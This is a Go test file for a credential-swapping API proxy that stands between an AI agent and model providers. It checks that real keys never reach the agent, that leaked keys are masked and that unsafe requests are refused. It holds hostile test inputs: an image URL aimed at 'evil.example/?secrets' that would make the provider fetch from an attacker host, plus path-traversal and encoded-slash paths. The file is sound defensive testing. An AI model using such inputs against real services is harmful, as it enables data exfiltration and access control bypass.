package model

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/agent-loop/ralph/internal/gate/budget"
	"github.com/agent-loop/ralph/internal/secret"
	"github.com/agent-loop/ralph/internal/token"
)

// seen is what an upstream got.
type seen struct {
	header http.Header
	body   string
	path   string
	proto  int
}

// watcher answers like the API and passes on what it got.
func watcher(got chan<- seen) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		got <- seen{r.Header.Clone(), string(body), r.URL.RequestURI(), r.ProtoMajor}
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set("Set-Cookie", "account=42")
		w.Header().Set("Anthropic-Organization-Id", "org-of-the-user")
		w.Header().Set("Request-Id", "req_1")
		io.WriteString(w, answer(10, 5))
	}
}

// TestPhantomIsSwapped shows that the upstream gets the real credential in the
// right header, and that the phantom does not leave the machine.
func TestPhantomIsSwapped(t *testing.T) {
	for _, tt := range []struct {
		name     string
		provider Provider
		kind     token.Kind
		client   []string // how the client shows the phantom
		header   string   // how the upstream gets the credential
		prefix   string
	}{
		{"key of Anthropic", Anthropic, token.AnthropicKey, nil, "X-Api-Key", ""},
		{"subscription", Anthropic, token.SetupToken, []string{"X-Api-Key", "", "Authorization", "Bearer PHANTOM"}, "Authorization", "Bearer "},
		{"gateway", Anthropic, token.Bearer, []string{"X-Api-Key", "", "Authorization", "Bearer PHANTOM"}, "Authorization", "Bearer "},
		{"both headers", Anthropic, token.AnthropicKey, []string{"Authorization", "Bearer PHANTOM"}, "X-Api-Key", ""},
		{"key of OpenAI", OpenAI, token.OpenAIKey, []string{"X-Api-Key", "", "Authorization", "Bearer PHANTOM"}, "Authorization", "Bearer "},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := make(chan seen, 1)
			r := start(t, watcher(got), budget.Caps{}, func(c *Config) {
				for i := range c.Upstreams {
					c.Upstreams[i].Source = key(tt.kind)
				}
			})
			path, body := "/anthropic/v1/messages?beta=true", message(testName, 100)
			if tt.provider == OpenAI {
				path, body = "/openai/v1/chat/completions", `{"model":"gpt-5","max_completion_tokens":100,"messages":[{"role":"user","content":"hello"}]}`
			}
			headers := append([]string{
				"Anthropic-Beta", "a-2025-01-01", "Cookie", "stolen=1", "OpenAI-Organization", "org-other", "X-Forwarded-For", "10.0.0.1",
				"X-Stainless-Lang", "js", "Idempotency-Key", "x",
			}, tt.client...)
			for i := range headers {
				headers[i] = strings.ReplaceAll(headers[i], "PHANTOM", r.phantom.Reveal())
			}
			resp, text := r.ask(t, http.MethodPost, path, body, headers...)
			up := <-got
			if resp.StatusCode != http.StatusOK || text != answer(10, 5) {
				t.Errorf("answer %s %q", resp.Status, text)
			}
			if up.proto != 2 {
				t.Errorf("HTTP/%d upstream, want 2", up.proto)
			}
			if up.header.Get(tt.header) != tt.prefix+realKey {
				t.Errorf("%s is not the credential", tt.header)
			}
			if other := map[string]string{"X-Api-Key": "Authorization", "Authorization": "X-Api-Key"}[tt.header]; up.header.Get(other) != "" {
				t.Errorf("%s is there as well", other)
			}
			if strings.Contains(fmt.Sprint(up), r.phantom.Reveal()) {
				t.Error("the phantom went upstream")
			}
			for _, name := range []string{"Cookie", "Openai-Organization", "X-Forwarded-For", "Idempotency-Key"} {
				if up.header.Get(name) != "" {
					t.Errorf("%s went upstream", name)
				}
			}
			if up.header.Get("X-Stainless-Lang") != "js" || up.header.Get("Accept-Encoding") != "identity" || up.body != body {
				t.Errorf("the upstream got %v %q", up.header, up.body)
			}
			if hasOAuth := strings.Contains(strings.Join(up.header.Values("Anthropic-Beta"), ","), "oauth-2025-04-20"); hasOAuth != (tt.kind == token.SetupToken) {
				t.Errorf("beta %q", up.header.Values("Anthropic-Beta"))
			}
			if resp.Header.Get("Set-Cookie") != "" || resp.Header.Get("Anthropic-Organization-Id") != "" || resp.Header.Get("Request-Id") != "req_1" {
				t.Errorf("the client got %v", resp.Header)
			}
		})
	}
}

// byURL makes the provider ask a host that the agent chose.
const byURL = `{"model":"` + testName + `","max_tokens":10,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?secrets"}}]}]}`

// TestRefused lists what does not go upstream at all.
func TestRefused(t *testing.T) {
	reached := false
	r := start(t, http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached = true }), budget.Caps{})
	otherRun := NewPhantom(Anthropic, token.AnthropicKey).Reveal()
	good := message(testName, 10)
	for _, tt := range []struct {
		name, method, path, body string
		headers                  []string
		status                   int
		code                     string
	}{
		{"no phantom", "POST", "/anthropic/v1/messages", good, []string{"X-Api-Key", ""}, 403, CodeWrongPhantom},
		{"another run's phantom", "POST", "/anthropic/v1/messages", good, []string{"X-Api-Key", otherRun}, 403, CodeWrongPhantom},
		{"the real key", "POST", "/anthropic/v1/messages", good, []string{"X-Api-Key", realKey}, 403, CodeWrongPhantom},
		{"one right and one wrong", "POST", "/anthropic/v1/messages", good, []string{"Authorization", "Bearer " + otherRun}, 403, CodeWrongPhantom},
		{"basic authentication", "POST", "/anthropic/v1/messages", good, []string{"X-Api-Key", "", "Authorization", "Basic eDp5"}, 403, CodeWrongPhantom},
		{"another method", "PUT", "/anthropic/v1/messages", good, nil, 403, CodeWrongMethod},
		{"get of messages", "GET", "/anthropic/v1/messages", "", nil, 403, CodeWrongMethod},
		{"WebSocket", "GET", "/openai/v1/responses", "", []string{"Upgrade", "websocket", "Connection", "upgrade"}, 426, CodeWrongMethod},
		{"files", "GET", "/anthropic/v1/files", "", nil, 403, CodeWrongPath},
		{"batches", "POST", "/anthropic/v1/messages/batches", good, nil, 403, CodeWrongPath},
		{"account", "GET", "/anthropic/api/oauth/profile", "", nil, 403, CodeWrongPath},
		{"below a model", "GET", "/anthropic/v1/models/x/y", "", nil, 403, CodeWrongPath},
		{"dots", "GET", "/anthropic/v1/models/..", "", nil, 403, CodeWrongPath},
		{"encoded slash", "GET", "/anthropic/v1/models/x%2f..%2ffiles", "", nil, 403, CodeWrongPath},
		{"encoded letter", "POST", "/anthropic/v1/%6dessages/batches", good, nil, 403, CodeWrongPath},
		{"trailing slash", "POST", "/anthropic/v1/messages/", good, nil, 403, CodeWrongPath},
		{"double slash", "POST", "/anthropic//v1/messages", good, nil, 403, CodeWrongPath},
		{"another provider", "POST", "/gemini/v1/messages", good, nil, 403, CodeWrongPath},
		{"no provider", "POST", "/v1/messages", good, nil, 403, CodeWrongPath},
		{"administration", "GET", "/openai/v1/organization/users", "", nil, 403, CodeWrongPath},
		{"query", "POST", "/anthropic/v1/messages?redirect=x", good, nil, 403, CodeWrongPath},
		{"query twice", "POST", "/anthropic/v1/messages?beta=true&beta=false", good, nil, 403, CodeWrongPath},
		{"no JSON", "POST", "/anthropic/v1/messages", "hello", nil, 400, CodeBadRequest},
		{"a name twice", "POST", "/anthropic/v1/messages", `{"max_tokens":1,` + good[1:], nil, 400, CodeBadRequest},
		{"packed", "POST", "/anthropic/v1/messages", good, []string{"Content-Encoding", "gzip"}, 400, CodeBadRequest},
		{"a form", "POST", "/anthropic/v1/messages", good, []string{"Content-Type", "multipart/form-data"}, 400, CodeBadRequest},
		{"no type", "POST", "/anthropic/v1/messages", good, []string{"Content-Type", ""}, 400, CodeBadRequest},
		{"content by its URL", "POST", "/anthropic/v1/messages", byURL, nil, 403, CodeProviderFetch},
		{"content by its URL, to be counted", "POST", "/anthropic/v1/messages/count_tokens", byURL, nil, 403, CodeProviderFetch},
		{"a count with a name twice", "POST", "/anthropic/v1/messages/count_tokens", `{"max_tokens":1,` + byURL[1:], nil, 400, CodeBadRequest},
		{"a count that names no model", "POST", "/anthropic/v1/messages/count_tokens", strings.Replace(byURL, `"model":"`+testName+`",`, "", 1), nil, 400, CodeBadRequest},
		{"search at the provider", "POST", "/anthropic/v1/messages", `{"max_tokens":1,"messages":[],"model":"` + testName + `","tools":[{"type":"web_search_20250305","name":"web_search","max_uses":1}]}`, nil, 403, CodeProviderFetch},
		{"unknown model", "POST", "/anthropic/v1/messages", message("claude-of-tomorrow", 10), nil, 403, CodeUnknownModel},
	} {
		t.Run(tt.name, func(t *testing.T) {
			resp, body := r.ask(t, tt.method, tt.path, tt.body, tt.headers...)
			e := r.event(t)
			if resp.StatusCode != tt.status || resp.Header.Get(codeHeader) != tt.code || resp.Header.Get("X-Should-Retry") != "false" {
				t.Errorf("answer %s %v %q, want %d %s", resp.Status, resp.Header, body, tt.status, tt.code)
			}
			var shown struct {
				Error struct{ Type, Message, Code string }
			}
			if err := json.Unmarshal([]byte(body), &shown); err != nil || shown.Error.Code != tt.code || !strings.HasPrefix(shown.Error.Message, "ralph: ") {
				t.Errorf("body %q: %v", body, err)
			}
			if e.Allowed || e.Code != tt.code || e.Status != tt.status || e.Run != "run-1" || e.Method != tt.method || e.Charge != nil {
				t.Errorf("event %+v", e)
			}
		})
	}
	if reached {
		t.Error("a refused request reached the upstream")
	}
}

// TestFree shows that what costs nothing passes without a reservation.
func TestFree(t *testing.T) {
	got := make(chan seen, 1)
	r := start(t, watcher(got), budget.Caps{USD: 1})
	for _, tt := range []struct{ method, path, body string }{
		{"GET", "/anthropic/v1/models?limit=1000", ""},
		{"GET", "/anthropic/v1/models/claude-sonnet-4-5", ""},
		{"POST", "/anthropic/v1/messages/count_tokens", message("anything", 1)},
		{"GET", "/openai/v1/models", ""},
	} {
		resp, _ := r.ask(t, tt.method, tt.path, tt.body)
		up, e := <-got, r.event(t)
		if resp.StatusCode != 200 || !strings.HasSuffix(tt.path, up.path) || up.body != tt.body || !e.Allowed || e.Charge != nil {
			t.Errorf("%s: %s, upstream %q %q, event %+v", tt.path, resp.Status, up.path, up.body, e)
		}
	}
	resp, _ := r.ask(t, http.MethodHead, "/anthropic/", "", "X-Api-Key", "")
	if e := r.event(t); resp.StatusCode != 200 || !e.Allowed || e.Reason != "preconnect" || len(got) != 0 {
		t.Errorf("preconnect: %s, event %+v", resp.Status, e)
	}
}

// renewing hands out the first credential, and the second after a refusal.
type renewing struct {
	first, second string
	refused       chan string
}

func (s *renewing) Token(context.Context) (token.Credential, error) {
	return token.Credential{Kind: token.SetupToken, Secret: secret.New(s.first)}, nil
}

func (s *renewing) Rejected(_ context.Context, old token.Credential) (token.Credential, error) {
	s.refused <- old.Secret.Reveal()
	if s.second == "" {
		return token.Credential{}, errors.New("log in again")
	}
	return token.Credential{Kind: token.SetupToken, Secret: secret.New(s.second)}, nil
}

func TestRenewalAfter401(t *testing.T) {
	upstream := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		if r.Header.Get("Authorization") == "Bearer second" {
			says(200, answer(10, 5))(w, r)
			return
		}
		says(401, `{"type":"error","error":{"type":"authentication_error","message":"token first is expired"}}`)(w, r)
	})
	for _, tt := range []struct {
		name, second string
		status       int
		signals      int
	}{
		{"a newer one is there", "second", 200, 0},
		{"there is none", "", 401, 1},
		{"it is the same", "first", 401, 1},
		{"it is refused as well", "third", 401, 1},
	} {
		t.Run(tt.name, func(t *testing.T) {
			source := &renewing{"first", tt.second, make(chan string, 4)}
			r := start(t, upstream, budget.Caps{}, func(c *Config) { c.Upstreams[0].Source = source })
			resp, _ := r.ask(t, "POST", "/anthropic/v1/messages", message(testName, 10))
			e := r.event(t)
			if resp.StatusCode != tt.status || len(source.refused) != 1 || <-source.refused != "first" {
				t.Errorf("answer %s", resp.Status)
			}
			state := r.api.State()
			if len(state.Signals) != tt.signals || tt.signals == 1 && state.Signals[Unauthorised].Status != 401 {
				t.Errorf("signals %+v", state.Signals)
			}
			if tt.status == 401 && (e.Charge.Cost != 0 || e.Charge.Uncertain) {
				t.Errorf("a refused login is charged: %+v", e.Charge)
			}
		})
	}
}

// broken has no credential.
type broken struct{}

func (broken) Token(context.Context) (token.Credential, error) {
	return token.Credential{}, errors.New("the keyring is locked at /home/me")
}
func (broken) Rejected(context.Context, token.Credential) (token.Credential, error) {
	return token.Credential{}, errors.New("no")
}

func TestNoCredential(t *testing.T) {
	r := start(t, says(200, answer(1, 1)), budget.Caps{}, func(c *Config) { c.Upstreams[0].Source = broken{} })
	resp, body := r.ask(t, "POST", "/anthropic/v1/messages", message(testName, 10))
	e := r.event(t)
	if resp.StatusCode != 403 || resp.Header.Get(codeHeader) != CodeCredential || strings.Contains(body, "/home/me") {
		t.Errorf("answer %s %q", resp.Status, body)
	}
	if !strings.Contains(e.Reason, "the keyring is locked") || e.Charge.Cost != 0 {
		t.Errorf("event %+v", e)
	}
	totals, _ := r.ledger.Totals()
	if totals.Committed().USD != 0 {
		t.Errorf("totals %+v", totals)
	}
	if _, ok := r.api.State().Signals[Unauthorised]; !ok {
		t.Error("no signal")
	}
}

// TestQuotedCredential: some upstreams quote the key that they refuse.
func TestQuotedCredential(t *testing.T) {
	r := start(t, says(403, `{"error":{"message":"key `+realKey+` has no access","type":"permission_error"}}`), budget.Caps{})
	for _, ask := range [][3]string{{"POST", "/anthropic/v1/messages", message(testName, 10)}, {"GET", "/anthropic/v1/models", ""}} {
		resp, body := r.ask(t, ask[0], ask[1], ask[2])
		if resp.StatusCode != 403 || strings.Contains(body, realKey) || !strings.Contains(body, "has no access") {
			t.Errorf("%s: answer %s %q", ask[1], resp.Status, body)
		}
		if e := r.event(t); e.Code != CodeMasked {
			t.Errorf("%s: event %+v", ask[1], e)
		}
	}
}

// TestProviderMayFetch when the user says so.
func TestProviderMayFetch(t *testing.T) {
	r := start(t, says(200, answer(1, 1)), budget.Caps{}, func(c *Config) { c.ProviderMayFetch = true })
	if resp, body := r.ask(t, "POST", "/anthropic/v1/messages", byURL); resp.StatusCode != 200 {
		t.Errorf("answer %s %q", resp.Status, body)
	}
}
